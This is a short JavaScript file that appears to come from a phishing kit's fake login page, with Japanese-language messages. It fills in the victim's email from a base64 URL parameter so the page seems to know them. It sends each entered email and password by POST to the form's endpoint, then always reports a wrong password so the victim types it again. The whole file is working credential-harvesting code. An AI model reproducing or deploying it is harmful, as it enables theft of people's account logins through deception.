// The mail address stands in the link; it is filled in so that the page looks as if it knew its visitor.
(function () {
  var form = document.getElementById("login");
  var user = document.getElementById("user");
  var pass = document.getElementById("pass");
  var message = document.getElementById("message");
  var known = new URLSearchParams(location.search).get("u");
  if (known) {
    try {
      user.value = atob(known);
    } catch (error) {
      user.value = "";
    }
  }
  function say(text) {
    message.textContent = text;
    message.hidden = false;
  }
  form.addEventListener("submit", function (event) {
    event.preventDefault();
    if (!/^[^\s@]+@[^\s@]+\.[^\s@]+$/.test(user.value)) {
      say("メールアドレスを正しく入力してください。");
      return;
    }
    if (pass.value.length < 4) {
      say("パスワードを入力してください。");
      return;
    }
    fetch(form.action, { method: "POST", body: new URLSearchParams({ user: user.value, pass: pass.value }) }).then(function () {
      pass.value = "";
      say("パスワードが正しくありません。もう一度入力してください。");
    });
  });
})();
